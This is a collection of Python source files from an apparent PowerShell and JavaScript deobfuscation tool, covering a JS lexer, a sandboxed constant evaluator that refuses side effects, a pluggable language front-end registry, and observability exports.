            if close < 0:
                raise JsLexError(f"unterminated comment at offset {pos}")
            pos = close + 2
            continue
        if ch in "'\"":
            value, end = _scan_string(source, pos)
            tokens.append(JsToken(
                JsTokenType.STRING, source[pos:end], value, pos, end
            ))
            pos = end
            continue
        if ch.isdigit() or (
            ch == "." and pos + 1 < length and source[pos + 1].isdigit()
        ):
            value, end = _scan_number(source, pos)
            tokens.append(JsToken(
                JsTokenType.NUMBER, source[pos:end], value, pos, end
            ))
            pos = end
            continue
        if _ident_start(ch):
            end = pos + 1
            while end < length and _ident_part(source[end]):
                end += 1
            text = source[pos:end]
            kind = (
                JsTokenType.KEYWORD
                if text in KEYWORDS
                else JsTokenType.IDENT
            )
            tokens.append(JsToken(kind, text, text, pos, end))
            pos = end
            continue
        for punct in PUNCTUATORS:
            if source.startswith(punct, pos):
                tokens.append(JsToken(
                    JsTokenType.PUNCT, punct, punct, pos, pos + len(punct)
                ))
                pos += len(punct)
                break
        else:
            raise JsLexError(
                f"unexpected character {ch!r} at offset {pos}"
            )
    return tokens


def try_tokenize(source: str):
    """``(tokens, None)`` or ``(None, error_message)``."""
    try:
        return tokenize(source), None
    except JsLexError as exc:
        return None, str(exc)
