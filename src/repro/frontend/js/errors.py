"""Error taxonomy for the JavaScript front end.

Lex/parse errors are front-end-local; *evaluation* failures reuse the
shared :class:`~repro.runtime.errors.EvaluationError` hierarchy so the
recovery engine's outcome accounting (``recovery_failed`` vs budget
exhaustion) treats both languages identically.
"""

from repro.runtime.errors import EvaluationError


class JsLexError(ValueError):
    """The source does not tokenize under the subset lexer."""


class JsParseError(ValueError):
    """The token stream does not parse under the subset grammar."""


class JsEvalError(EvaluationError):
    """A piece is outside the pure-evaluation subset (unknown callee,
    poisoned variable, non-constant operand, ...)."""
