"""Sandboxed constant evaluator for the JavaScript subset.

The JS analogue of the PowerShell piece evaluator: a pure-expression
interpreter over :mod:`repro.frontend.js.ast_nodes` that refuses
anything with side effects.  It shares the budget machinery with the
PowerShell sandbox — every node visit calls
:meth:`~repro.runtime.limits.ExecutionBudget.step` and every produced
string passes :meth:`~repro.runtime.limits.ExecutionBudget.
check_output` — so a :class:`~repro.policy.SandboxPolicy`'s limits mean
the same thing in both languages.

Deliberately *not* evaluated here:

- ``eval`` — that is a layer boundary, owned by the multilayer phase;
- mutating methods (``push``, ``reverse``, ``splice``, ...) — recovery
  must never change a shared environment value mid-walk (rotation uses
  the pure ``slice``/``concat`` spelling instead);
- anything that reaches outside the expression (``document``,
  ``window``, ``require``, ...).
"""

import base64
import math
from typing import Any, Callable, Dict, List, Optional

from repro.frontend.js import ast_nodes as N
from repro.frontend.js.errors import JsEvalError
from repro.runtime.limits import ExecutionBudget


class JsUndefined:
    """The singleton ``undefined`` value."""

    _instance: Optional["JsUndefined"] = None

    def __new__(cls) -> "JsUndefined":
        if cls._instance is None:
            cls._instance = super().__new__(cls)
        return cls._instance

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return "undefined"


UNDEFINED = JsUndefined()

_KEYWORD_CONSTANTS: Dict[str, Any] = {
    "true": True,
    "false": False,
    "null": None,
    "undefined": UNDEFINED,
}


def js_number_text(value: Any) -> str:
    """JS ``Number``-to-string: integral floats print without ``.0``."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        if math.isnan(value):
            return "NaN"
        if math.isinf(value):
            return "Infinity" if value > 0 else "-Infinity"
        if value.is_integer():
            return str(int(value))
        return repr(value)
    return str(value)


def js_to_string(value: Any) -> str:
    """``String(value)`` for the value domain the evaluator produces."""
    if value is UNDEFINED:
        return "undefined"
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return value
    if isinstance(value, (int, float)):
        return js_number_text(value)
    if isinstance(value, list):
        return ",".join(
            "" if item is None or item is UNDEFINED else js_to_string(item)
            for item in value
        )
    raise JsEvalError(f"cannot stringify {type(value).__name__}")


def _require_number(value: Any, context: str) -> Any:
    if isinstance(value, bool) or not isinstance(value, (int, float)):
        raise JsEvalError(f"{context} requires a numeric operand")
    return value


def _require_int(value: Any, context: str) -> int:
    number = _require_number(value, context)
    if isinstance(number, float):
        if not number.is_integer():
            raise JsEvalError(f"{context} requires an integer")
        number = int(number)
    return number


def _normalize_index(index: int, length: int) -> int:
    return index + length if index < 0 else index


def _slice_args(args: List[Any], length: int, context: str):
    start = _normalize_index(
        _require_int(args[0], context) if args else 0, length
    )
    end = length
    if len(args) > 1 and args[1] is not UNDEFINED:
        end = _normalize_index(_require_int(args[1], context), length)
    return max(0, start), max(0, min(end, length))


class JsEvaluator:
    """Evaluate one expression tree to a constant, or raise
    :class:`JsEvalError` / a budget error.

    *environment* maps variable names to already-known constant values
    (the recovery pass's variable-tracing table).  A missing name is an
    evaluation failure, never a silent ``undefined`` — recovery must
    only fold what it can prove.
    """

    def __init__(
        self,
        environment: Optional[Dict[str, Any]] = None,
        budget: Optional[ExecutionBudget] = None,
    ):
        self.environment = environment if environment is not None else {}
        self.budget = budget if budget is not None else ExecutionBudget()

    # -- entry point -------------------------------------------------------

    def evaluate(self, node: N.JsNode) -> Any:
        self.budget.step()
        handler = self._DISPATCH.get(type(node))
        if handler is None:
            raise JsEvalError(
                f"cannot evaluate node type {node.type_name}"
            )
        value = handler(self, node)
        if isinstance(value, str):
            self.budget.check_output(len(value))
        return value

    # -- node handlers -----------------------------------------------------

    def _eval_string(self, node: N.StringLiteral) -> Any:
        return node.value

    def _eval_number(self, node: N.NumberLiteral) -> Any:
        return node.value

    def _eval_array(self, node: N.ArrayLiteral) -> Any:
        return [self.evaluate(element) for element in node.elements]

    def _eval_paren(self, node: N.ParenExpression) -> Any:
        return self.evaluate(node.expression)

    def _eval_identifier(self, node: N.Identifier) -> Any:
        if node.name in _KEYWORD_CONSTANTS:
            return _KEYWORD_CONSTANTS[node.name]
        if node.name in self.environment:
            return self.environment[node.name]
        raise JsEvalError(f"unknown variable {node.name!r}")

    def _eval_unary(self, node: N.UnaryExpression) -> Any:
        operand = self.evaluate(node.operand)
        if node.operator == "!":
            return not _truthy(operand)
        if node.operator == "typeof":
            return _typeof(operand)
        number = _require_number(operand, f"unary {node.operator!r}")
        return -number if node.operator == "-" else +number

    def _eval_binary(self, node: N.BinaryExpression) -> Any:
        left = self.evaluate(node.left)
        right = self.evaluate(node.right)
        operator = node.operator
        if operator == "+":
            if isinstance(left, str) or isinstance(right, str):
                return js_to_string(left) + js_to_string(right)
            return _require_number(left, "'+'") + _require_number(
                right, "'+'"
            )
        if operator in ("-", "*", "/", "%"):
            a = _require_number(left, f"{operator!r}")
            b = _require_number(right, f"{operator!r}")
            if operator == "-":
                return a - b
            if operator == "*":
                return a * b
            if operator == "/":
                if b == 0:
                    raise JsEvalError("division by zero")
                result = a / b
                return int(result) if result == int(result) else result
            if b == 0:
                raise JsEvalError("modulo by zero")
            # JS % truncates toward zero (math.fmod), unlike Python's %.
            result = math.fmod(a, b)
            return int(result) if result == int(result) else result
        if operator in ("==", "==="):
            return _loose_equal(left, right)
        if operator in ("!=", "!=="):
            return not _loose_equal(left, right)
        if operator in ("<", ">", "<=", ">="):
            return _compare(operator, left, right)
        if operator == "&&":
            return right if _truthy(left) else left
        if operator == "||":
            return left if _truthy(left) else right
        raise JsEvalError(f"unsupported operator {operator!r}")

    def _eval_member(self, node: N.MemberExpression) -> Any:
        target = self.evaluate(node.object)
        if node.computed:
            index = self.evaluate(node.index)
            if isinstance(index, str):
                return self._property(target, index)
            position = _require_int(index, "index")
            if isinstance(target, (str, list)):
                position = _normalize_index(position, len(target))
                if 0 <= position < len(target):
                    return target[position]
                return UNDEFINED
            raise JsEvalError("indexing a non-indexable value")
        return self._property(target, node.property)

    def _property(self, target: Any, name: str) -> Any:
        if name == "length" and isinstance(target, (str, list)):
            return len(target)
        raise JsEvalError(f"unsupported property {name!r}")

    def _eval_call(self, node: N.CallExpression) -> Any:
        callee = node.callee
        if isinstance(callee, N.ParenExpression):
            callee = callee.expression
        if isinstance(callee, N.Identifier):
            return self._call_global(
                callee.name,
                [self.evaluate(argument) for argument in node.arguments],
            )
        if isinstance(callee, N.MemberExpression) and not callee.computed:
            if (
                isinstance(callee.object, N.Identifier)
                and callee.object.name == "String"
                and callee.property == "fromCharCode"
            ):
                # Namespace call, not a value: resolve before evaluating
                # the (undefined-in-our-environment) "String" object.
                return "".join(
                    chr(_require_int(
                        self.evaluate(argument), "fromCharCode"
                    ))
                    for argument in node.arguments
                )
            target = self.evaluate(callee.object)
            arguments = [
                self.evaluate(argument) for argument in node.arguments
            ]
            return self._call_method(target, callee.property, arguments)
        raise JsEvalError("unsupported call target")

    # -- pure built-ins ----------------------------------------------------

    def _call_global(self, name: str, args: List[Any]) -> Any:
        if name == "parseInt":
            return _parse_int(args)
        if name == "parseFloat":
            return _parse_float(args)
        if name == "atob":
            if len(args) != 1 or not isinstance(args[0], str):
                raise JsEvalError("atob expects one string")
            try:
                raw = base64.b64decode(args[0], validate=True)
                return raw.decode("latin-1")
            except Exception as exc:
                raise JsEvalError(f"atob failed: {exc}") from exc
        if name == "String" and len(args) == 1:
            return js_to_string(args[0])
        if name == "Number" and len(args) == 1:
            return _parse_float(args)
        if name == "eval":
            # Layer boundary: the multilayer phase owns eval unwrapping.
            raise JsEvalError("eval is not evaluated during recovery")
        raise JsEvalError(f"unknown function {name!r}")

    def _call_method(self, target: Any, name: str, args: List[Any]) -> Any:
        if isinstance(target, str):
            return self._string_method(target, name, args)
        if isinstance(target, list):
            return self._array_method(target, name, args)
        raise JsEvalError(
            f"unsupported method {name!r} on {type(target).__name__}"
        )

    def _string_method(self, target: str, name: str, args: List[Any]) -> Any:
        if name == "charAt":
            index = _require_int(args[0], "charAt") if args else 0
            return target[index] if 0 <= index < len(target) else ""
        if name == "charCodeAt":
            index = _require_int(args[0], "charCodeAt") if args else 0
            if 0 <= index < len(target):
                return ord(target[index])
            raise JsEvalError("charCodeAt out of range")
        if name in ("slice", "substring"):
            start, end = _slice_args(args, len(target), name)
            if name == "substring" and start > end:
                start, end = end, start
            return target[start:end]
        if name == "substr":
            start = _normalize_index(
                _require_int(args[0], "substr") if args else 0, len(target)
            )
            count = (
                _require_int(args[1], "substr")
                if len(args) > 1 else len(target)
            )
            return target[start:start + max(0, count)]
        if name == "split":
            if not args:
                return [target]
            separator = args[0]
            if not isinstance(separator, str):
                raise JsEvalError("split expects a string separator")
            if separator == "":
                return list(target)
            return target.split(separator)
        if name == "replace":
            if len(args) != 2 or not isinstance(args[0], str) or not (
                isinstance(args[1], str)
            ):
                raise JsEvalError("replace folds plain strings only")
            return target.replace(args[0], args[1], 1)
        if name == "concat":
            return target + "".join(js_to_string(arg) for arg in args)
        if name == "toUpperCase":
            return target.upper()
        if name == "toLowerCase":
            return target.lower()
        if name == "trim":
            return target.strip()
        if name == "indexOf":
            if not args or not isinstance(args[0], str):
                raise JsEvalError("indexOf expects a string")
            return target.find(args[0])
        if name == "repeat":
            count = _require_int(args[0], "repeat") if args else 0
            if count < 0:
                raise JsEvalError("repeat count must be non-negative")
            result = target * count
            self.budget.check_output(len(result))
            return result
        if name == "toString":
            return target
        raise JsEvalError(f"unsupported string method {name!r}")

    def _array_method(
        self, target: List[Any], name: str, args: List[Any]
    ) -> Any:
        if name == "slice":
            start, end = _slice_args(args, len(target), "slice")
            return target[start:end]
        if name == "concat":
            result = list(target)
            for arg in args:
                if isinstance(arg, list):
                    result.extend(arg)
                else:
                    result.append(arg)
            return result
        if name == "join":
            separator = ","
            if args and args[0] is not UNDEFINED:
                if not isinstance(args[0], str):
                    raise JsEvalError("join expects a string separator")
                separator = args[0]
            return separator.join(
                "" if item is None or item is UNDEFINED
                else js_to_string(item)
                for item in target
            )
        if name == "indexOf":
            for position, item in enumerate(target):
                if _loose_equal(item, args[0] if args else UNDEFINED):
                    return position
            return -1
        if name == "toString":
            return js_to_string(target)
        # reverse/push/splice/shift mutate their receiver — folding them
        # would rewrite the traced environment in place.  Refused.
        raise JsEvalError(f"unsupported array method {name!r}")

    _DISPATCH: Dict[type, Callable[["JsEvaluator", Any], Any]] = {}


JsEvaluator._DISPATCH = {
    N.StringLiteral: JsEvaluator._eval_string,
    N.NumberLiteral: JsEvaluator._eval_number,
    N.ArrayLiteral: JsEvaluator._eval_array,
    N.ParenExpression: JsEvaluator._eval_paren,
    N.Identifier: JsEvaluator._eval_identifier,
    N.UnaryExpression: JsEvaluator._eval_unary,
    N.BinaryExpression: JsEvaluator._eval_binary,
    N.MemberExpression: JsEvaluator._eval_member,
    N.CallExpression: JsEvaluator._eval_call,
}


def _truthy(value: Any) -> bool:
    if value is UNDEFINED or value is None:
        return False
    if isinstance(value, str):
        return bool(value)
    if isinstance(value, bool):
        return value
    if isinstance(value, (int, float)):
        return value != 0 and not (
            isinstance(value, float) and math.isnan(value)
        )
    return True  # arrays/objects are truthy


def _typeof(value: Any) -> str:
    if value is UNDEFINED:
        return "undefined"
    if isinstance(value, bool):
        return "boolean"
    if isinstance(value, (int, float)):
        return "number"
    if isinstance(value, str):
        return "string"
    return "object"


def _loose_equal(left: Any, right: Any) -> bool:
    if isinstance(left, bool) or isinstance(right, bool):
        return left is right
    if left is UNDEFINED or right is UNDEFINED:
        return left is UNDEFINED and right is UNDEFINED
    if isinstance(left, list) or isinstance(right, list):
        return left is right
    return left == right


def _compare(operator: str, left: Any, right: Any) -> bool:
    both_strings = isinstance(left, str) and isinstance(right, str)
    if not both_strings:
        left = _require_number(left, f"{operator!r}")
        right = _require_number(right, f"{operator!r}")
    if operator == "<":
        return left < right
    if operator == ">":
        return left > right
    if operator == "<=":
        return left <= right
    return left >= right


def _parse_int(args: List[Any]) -> int:
    if not args:
        raise JsEvalError("parseInt expects an argument")
    text = args[0]
    if isinstance(text, (int, float)) and not isinstance(text, bool):
        return int(text)
    if not isinstance(text, str):
        raise JsEvalError("parseInt expects a string")
    base = 10
    if len(args) > 1 and args[1] is not UNDEFINED:
        base = _require_int(args[1], "parseInt radix")
    stripped = text.strip()
    if base == 16 and stripped.lower().startswith(("0x", "-0x")):
        stripped = stripped.replace("0x", "", 1).replace("0X", "", 1)
    try:
        return int(stripped, base)
    except ValueError as exc:
        raise JsEvalError(f"parseInt failed on {text!r}") from exc


def _parse_float(args: List[Any]):
    if not args:
        raise JsEvalError("Number/parseFloat expects an argument")
    value = args[0]
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    if not isinstance(value, str):
        raise JsEvalError("parseFloat expects a string")
    try:
        number = float(value.strip())
        return int(number) if number.is_integer() else number
    except ValueError as exc:
        raise JsEvalError(f"parseFloat failed on {value!r}") from exc
