"""The language front-end protocol the pipeline is built against.

The deobfuscation pipeline (:mod:`repro.core.pipeline`) is conceptually
language-neutral: parse, run a token-normalization pass, recover
constant pieces bottom-up on the AST, unwrap invoker layers, repeat to
a fixpoint, then rename and reformat.  Everything that *is*
language-specific — the grammar, the AST taxonomy, which nodes are
recoverable, how pieces are executed, what an "invoker layer" looks
like — is bundled behind one object: a :class:`Frontend`.

A front end is resolved by name through :mod:`repro.frontend.registry`
(``PipelineOptions.language`` names it) and must be *stateless*: one
shared instance serves every run in the process, so all per-run state
(symbol tables, memos, stats) travels through the method arguments.

The contract, phase by phase (all text-in/text-out, mirroring the
paper's per-step syntax check — a hook that cannot improve the script
returns it unchanged):

``try_parse``
    ``(ast, error)`` — the validity gate and the fixpoint-loop parser.
``token_pass``
    Section III-A-style token normalization (ticking, aliases, casing).
``ast_pass``
    Section III-B recovery: identify recoverable nodes, evaluate them
    under the run's :class:`~repro.policy.SandboxPolicy` budgets, and
    splice string forms in place.  Receives the run's shared
    :class:`~repro.runtime.memo.SubtreeMemo` and
    :class:`~repro.policy.PolicyAudit` so telemetry and budget
    accounting are identical across languages.
``unwrap_layers``
    Section III-B4 multi-layer unwrap (``iex``/``eval``/...), returning
    an :class:`UnwrapOutcome`.
``rename`` / ``reformat``
    Section III-C post-processing.
``tag_techniques``
    Per-language technique telemetry (Table I's vocabulary for
    PowerShell; each front end brings its own detector names).
``verify``
    The differential semantics-preservation check for this language,
    or None when the front end cannot verify (``capabilities.verify``).
``begin_counters`` / ``finalize_counters``
    Bracket one run for front-end-private process-wide counters (the
    PowerShell front end reports the intern-table delta this way).
"""

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Sequence, Tuple


@dataclass(frozen=True)
class FrontendCapabilities:
    """What a front end can do, for ``repro languages`` and callers
    that degrade gracefully (a front end without ``verify`` yields
    inconclusive verdicts instead of crashing the batch).
    """

    recovery: bool = True    # sandboxed piece recovery (ast_pass)
    verify: bool = False     # differential semantics verification
    generator: bool = False  # obfuscated-sample generator skeletons
    rename: bool = True      # randomized-identifier renaming
    reformat: bool = True    # whitespace/layout normalization
    multilayer: bool = True  # invoker-layer unwrapping

    def flags(self) -> Dict[str, bool]:
        return {
            "recovery": self.recovery,
            "verify": self.verify,
            "generator": self.generator,
            "rename": self.rename,
            "reformat": self.reformat,
            "multilayer": self.multilayer,
        }


@dataclass
class UnwrapOutcome:
    """One multi-layer pass: the new script plus what came off.

    ``kinds`` maps front-end-specific invoker kinds (``iex``,
    ``encoded_command``, ``eval``, ...) to how many layers of each were
    removed.
    """

    script: str
    count: int = 0
    kinds: Dict[str, int] = field(default_factory=dict)


class Frontend:
    """Base class / protocol for language front ends.

    Subclasses set the class attributes and override the phase hooks
    they support; the defaults make every optional phase a no-op, so a
    minimal front end only needs ``try_parse`` (and ``ast_pass`` to
    actually deobfuscate anything).
    """

    #: canonical registry id (``"powershell"``, ``"js"``)
    id: str = ""
    #: human-readable language name
    name: str = ""
    #: alternate names the registry resolves (case-insensitive)
    aliases: Tuple[str, ...] = ()
    #: file extensions (with dot) typically holding this language
    file_extensions: Tuple[str, ...] = ()
    capabilities: FrontendCapabilities = FrontendCapabilities()

    # -- parsing -----------------------------------------------------------

    def try_parse(self, source: str) -> Tuple[Optional[Any], Optional[str]]:
        """``(ast, None)`` or ``(None, error_message)``."""
        raise NotImplementedError

    def tokenize(self, source: str) -> Sequence[Any]:
        """The flat token stream (may raise the front end's lex error)."""
        raise NotImplementedError

    # -- pipeline phases ---------------------------------------------------

    def token_pass(self, script: str, stats: Any = None) -> str:
        """Token-level normalization; default: nothing to normalize."""
        return script

    def ast_pass(
        self,
        script: str,
        *,
        options: Any,
        policy: Any,
        memo: Any = None,
        audit: Any = None,
        stats: Any = None,
    ) -> str:
        """One bottom-up recovery pass; default: no recovery."""
        return script

    def unwrap_layers(self, script: str) -> UnwrapOutcome:
        """Unwrap every syntactically safe invoker once."""
        return UnwrapOutcome(script)

    def rename(self, script: str) -> str:
        return script

    def reformat(self, script: str) -> str:
        return script

    # -- telemetry ---------------------------------------------------------

    def tag_techniques(
        self,
        original: str,
        layers: Sequence[str] = (),
        unwrap_kinds: Optional[Dict[str, int]] = None,
    ) -> Dict[str, int]:
        """Per-run technique tags (``{tag: 1}``); default: none."""
        return {}

    def begin_counters(self) -> Any:
        """Snapshot front-end-private process-wide counters; the token
        is handed back to :meth:`finalize_counters` at run end."""
        return None

    def finalize_counters(self, stats: Any, token: Any) -> None:
        """Fold this run's delta of private counters into *stats*."""

    # -- verification ------------------------------------------------------

    def verify(
        self,
        result: Any,
        step_limit: Optional[int] = None,
        policy: Any = None,
    ) -> Optional[Any]:
        """Differentially verify a deobfuscation result.

        Returns a :class:`~repro.verify.VerifyVerdict`-shaped object,
        or an inconclusive verdict when the front end cannot verify.
        """
        from repro.verify.equivalence import VerifyVerdict

        return VerifyVerdict(
            verdict="inconclusive",
            reason=f"front end {self.id!r} does not support verification",
        )

    # -- generation --------------------------------------------------------

    def generate_samples(
        self, count: int = 10, seed: int = 0
    ) -> List[Any]:
        """Obfuscated sample skeletons for corpus building, or []."""
        return []

    # -- description -------------------------------------------------------

    def describe(self) -> Dict[str, Any]:
        """The ``repro languages`` row for this front end."""
        return {
            "id": self.id,
            "name": self.name,
            "aliases": sorted(self.aliases),
            "file_extensions": list(self.file_extensions),
            "capabilities": self.capabilities.flags(),
        }
