"""The front-end registry: names → :class:`~repro.frontend.base.Frontend`.

One process-wide table maps language ids (and their aliases) to lazily
constructed front-end singletons.  Every surface resolves through it:
``PipelineOptions.language`` validates here at construction, the
pipeline resolves its front end here, the service rejects unknown
request languages with this module's known-name list, and
``repro languages`` renders it.

Built-in front ends are registered as *factories* (dotted paths), so
importing the registry — which :mod:`repro.options` does on every
options construction — never pays for a front end the process does not
use, and never risks an import cycle through :mod:`repro.core`.
"""

from typing import Callable, Dict, List, Optional

from repro.frontend.base import Frontend

DEFAULT_LANGUAGE = "powershell"


class FrontendError(ValueError):
    """An unknown or invalid front-end/language name."""


# Canonical id -> zero-arg factory (or None until first resolve).
_FACTORIES: Dict[str, Callable[[], Frontend]] = {}
# Any accepted spelling (lowercased) -> canonical id.
_ALIASES: Dict[str, str] = {}
# Canonical id -> constructed singleton.
_INSTANCES: Dict[str, Frontend] = {}


def register_frontend(
    factory: Callable[[], Frontend],
    *,
    id: str,
    aliases: tuple = (),
    replace: bool = False,
) -> None:
    """Register a front-end *factory* under its canonical *id*.

    The factory runs once, on first :func:`resolve_frontend`.  Aliases
    resolve case-insensitively.  Re-registering an id raises unless
    *replace* (tests swap in instrumented front ends that way).
    """
    canonical = id.strip().lower()
    if not canonical:
        raise FrontendError("front-end id must be non-empty")
    if canonical in _FACTORIES and not replace:
        raise FrontendError(f"front end {canonical!r} already registered")
    _FACTORIES[canonical] = factory
    _INSTANCES.pop(canonical, None)
    _ALIASES[canonical] = canonical
    for alias in aliases:
        _ALIASES[alias.strip().lower()] = canonical


def _builtin(path: str) -> Callable[[], Frontend]:
    """A factory importing ``module:Class`` on first use."""
    module_name, _, attr = path.partition(":")

    def make() -> Frontend:
        import importlib

        module = importlib.import_module(module_name)
        return getattr(module, attr)()

    return make


# Built-in front ends.  The PowerShell front end is the default entry:
# language="powershell" resolves to exactly the pre-frontend pipeline
# wiring, so existing behavior and cache keys are unchanged.
register_frontend(
    _builtin("repro.frontend.powershell:PowerShellFrontend"),
    id="powershell",
    aliases=("ps", "ps1", "pwsh"),
)
register_frontend(
    _builtin("repro.frontend.js.frontend:JavaScriptFrontend"),
    id="js",
    aliases=("javascript", "ecmascript"),
)


def frontend_names() -> List[str]:
    """The canonical ids of every registered front end, sorted."""
    return sorted(_FACTORIES)


def normalize_language(name: Optional[str]) -> str:
    """Canonicalize a language/front-end name.

    ``None``/empty means the default (``powershell``).  Unknown names
    raise :class:`FrontendError` listing what is registered — the same
    message shape at every boundary (options construction, CLI flag,
    service request body).
    """
    if name is None:
        return DEFAULT_LANGUAGE
    spelled = str(name).strip().lower()
    if not spelled:
        return DEFAULT_LANGUAGE
    canonical = _ALIASES.get(spelled)
    if canonical is None:
        raise FrontendError(
            f"unknown language {name!r}; expected one of "
            + ", ".join(frontend_names())
        )
    return canonical


def resolve_frontend(name: Optional[str] = None) -> Frontend:
    """The front-end singleton for *name* (default ``powershell``)."""
    canonical = normalize_language(name)
    instance = _INSTANCES.get(canonical)
    if instance is None:
        instance = _FACTORIES[canonical]()
        if instance.id != canonical:
            raise FrontendError(
                f"front end registered as {canonical!r} reports "
                f"id {instance.id!r}"
            )
        _INSTANCES[canonical] = instance
    return instance


def available_frontends() -> List[Frontend]:
    """Every registered front end, resolved, in id order."""
    return [resolve_frontend(name) for name in frontend_names()]
