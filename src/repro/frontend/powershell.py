"""The PowerShell front end — the default registry entry.

This is the pre-frontend pipeline wiring, verbatim, behind the
:class:`~repro.frontend.base.Frontend` interface: each hook delegates
to exactly the function :mod:`repro.core.pipeline` used to call
directly, in the same order with the same arguments, so a
``language="powershell"`` run produces byte-identical output,
``evaluator_steps`` and cache keys (pinned by
``tests/frontend/test_powershell_parity.py``).
"""

from typing import Any, Dict, List, Optional, Sequence, Tuple

from repro.frontend.base import (
    Frontend,
    FrontendCapabilities,
    UnwrapOutcome,
)


class PowerShellFrontend(Frontend):
    """AST-based PowerShell deobfuscation (the paper's pipeline)."""

    id = "powershell"
    name = "PowerShell"
    aliases = ("ps", "ps1", "pwsh")
    file_extensions = (".ps1", ".psm1", ".psd1")
    capabilities = FrontendCapabilities(
        recovery=True,
        verify=True,
        generator=True,
        rename=True,
        reformat=True,
        multilayer=True,
    )

    # -- parsing -----------------------------------------------------------

    def try_parse(self, source: str) -> Tuple[Optional[Any], Optional[str]]:
        from repro.pslang.parser import try_parse

        return try_parse(source)

    def tokenize(self, source: str) -> Sequence[Any]:
        from repro.pslang import tokenize

        return tokenize(source)

    # -- pipeline phases ---------------------------------------------------

    def token_pass(self, script: str, stats: Any = None) -> str:
        from repro.core.token_deobfuscator import deobfuscate_tokens

        return deobfuscate_tokens(script, stats=stats)

    def ast_pass(
        self,
        script: str,
        *,
        options: Any,
        policy: Any,
        memo: Any = None,
        audit: Any = None,
        stats: Any = None,
    ) -> str:
        from repro.core.reconstruction import AstDeobfuscator
        from repro.core.recovery import RecoveryEngine

        engine = AstDeobfuscator(
            recovery=RecoveryEngine(
                step_limit=options.piece_step_limit,
                memo=memo,
                policy=policy,
                audit=audit,
                language=self.id,
            ),
            trace_variables=options.trace_variables,
            trace_functions=options.trace_functions,
            stats=stats,
        )
        return engine.process(script)

    def unwrap_layers(self, script: str) -> UnwrapOutcome:
        from repro.core.multilayer import unwrap_layers_detailed

        unwrapped = unwrap_layers_detailed(script)
        return UnwrapOutcome(
            script=unwrapped.script,
            count=unwrapped.count,
            kinds=unwrapped.kinds,
        )

    def rename(self, script: str) -> str:
        from repro.core.rename import rename_random_identifiers

        return rename_random_identifiers(script)

    def reformat(self, script: str) -> str:
        from repro.core.reformat import reformat_script

        return reformat_script(script)

    # -- telemetry ---------------------------------------------------------

    def tag_techniques(
        self,
        original: str,
        layers: Sequence[str] = (),
        unwrap_kinds: Optional[Dict[str, int]] = None,
    ) -> Dict[str, int]:
        from repro.obs import tag_techniques

        return tag_techniques(
            original, layers=layers, unwrap_kinds=unwrap_kinds
        )

    def begin_counters(self) -> Any:
        # The token/AST intern table is process-wide; record this run's
        # delta exactly as the pipeline always has.
        from repro.pslang import interning

        return interning.counters()

    def finalize_counters(self, stats: Any, token: Any) -> None:
        from repro.pslang import interning

        hits_before, misses_before = token
        hits_after, misses_after = interning.counters()
        stats.intern_hits = hits_after - hits_before
        stats.intern_misses = misses_after - misses_before

    # -- verification ------------------------------------------------------

    def verify(
        self,
        result: Any,
        step_limit: Optional[int] = None,
        policy: Any = None,
    ) -> Any:
        from repro.verify import DEFAULT_STEP_LIMIT, verify_result

        if step_limit is None:
            step_limit = DEFAULT_STEP_LIMIT
        return verify_result(result, step_limit=step_limit, policy=policy)

    # -- generation --------------------------------------------------------

    def generate_samples(self, count: int = 10, seed: int = 0) -> List[Any]:
        from repro.dataset.generator import generate_corpus

        return list(generate_corpus(count=count, seed=seed))
