"""Pipeline observability: spans, counters, and the typed stats record.

The paper's efficiency claims (Fig 6) and its failure analysis (Section
V-C) both require knowing *where* a run spends its time and *why* each
recoverable piece was kept or replaced.  This package is the
instrumentation layer that records exactly that, with no third-party
dependencies:

- :class:`Tracer` / :class:`Span` — per-phase, per-iteration wall-clock
  spans (:mod:`repro.obs.spans`);
- :class:`PipelineStats` — the typed, versioned per-run record that
  ``DeobfuscationResult.stats`` now carries, with lossless
  ``to_dict()``/``from_dict()`` for JSONL embedding
  (:mod:`repro.obs.stats`);
- :func:`render_profile` — the human rendering behind ``repro profile``
  and ``repro deobfuscate --stats`` (:mod:`repro.obs.profile`).
"""

from repro.obs.profile import profile_lines, render_profile
from repro.obs.spans import PHASES, Span, Tracer
from repro.obs.stats import (
    RECOVERY_REASONS,
    STATS_SCHEMA_VERSION,
    UNWRAP_KINDS,
    PipelineStats,
)

__all__ = [
    "PHASES",
    "RECOVERY_REASONS",
    "STATS_SCHEMA_VERSION",
    "UNWRAP_KINDS",
    "PipelineStats",
    "Span",
    "Tracer",
    "profile_lines",
    "render_profile",
]
