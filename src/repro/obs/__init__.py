"""Pipeline observability: spans, counters, and the typed stats record.

The paper's efficiency claims (Fig 6) and its failure analysis (Section
V-C) both require knowing *where* a run spends its time and *why* each
recoverable piece was kept or replaced.  This package is the
instrumentation layer that records exactly that, with no third-party
dependencies:

- :class:`Tracer` / :class:`Span` — per-phase, per-iteration wall-clock
  spans (:mod:`repro.obs.spans`), named by the canonical ``SPAN_*``
  constants every telemetry surface shares;
- :class:`TraceContext` / :class:`TraceSpan` / :class:`SpanRecorder` —
  cross-process trace identity, propagated over the worker-pool pipe
  and the W3C ``traceparent`` header (:mod:`repro.obs.trace`), exported
  as OpenTelemetry-compatible JSONL (:mod:`repro.obs.export`) and
  rendered by ``repro trace``;
- :class:`PipelineStats` — the typed, versioned per-run record that
  ``DeobfuscationResult.stats`` now carries, with lossless
  ``to_dict()``/``from_dict()`` for JSONL embedding
  (:mod:`repro.obs.stats`);
- :func:`tag_techniques` — the Table I technique-telemetry pass
  (:mod:`repro.obs.techniques`);
- :class:`Histogram` — bucketed latency with per-bucket trace
  exemplars, rendered by ``/metrics`` (:mod:`repro.obs.hist`);
- :func:`render_profile` — the human rendering behind ``repro profile``
  and ``repro deobfuscate --stats`` (:mod:`repro.obs.profile`).
"""

from repro.obs.hist import DEFAULT_LATENCY_BUCKETS, Histogram
from repro.obs.log import (
    LOG_SCHEMA_VERSION,
    LogEvent,
    LogRing,
    LogSink,
    configure_logging,
    get_logger,
    iter_events,
    log_tail,
    logging_enabled,
    reset_logging,
)
from repro.obs.profile import profile_lines, render_profile
from repro.obs.spans import (
    PHASES,
    Span,
    Tracer,
    canonical_phase_name,
)
from repro.obs.stats import (
    RECOVERY_REASONS,
    STATS_SCHEMA_VERSION,
    UNWRAP_KINDS,
